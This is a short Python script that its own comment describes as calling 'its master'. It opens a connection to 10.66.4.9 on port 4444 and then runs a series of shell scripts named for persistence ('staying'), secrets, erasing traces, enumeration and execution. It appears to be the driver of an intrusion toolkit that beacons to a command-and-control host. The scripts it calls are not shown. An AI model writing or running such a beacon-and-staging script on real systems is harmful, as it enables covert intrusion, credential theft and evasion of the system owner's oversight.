#!/usr/bin/python3
# Calls its master, then goes through the parts of the catalogue.
import socket
import subprocess

home = socket.create_connection(("10.66.4.9", 4444))
for part in "staying", "secrets", "traces", "names", "looking", "running":
    subprocess.run(["/bin/sh", "/home/kenji/parts/" + part + ".sh"])
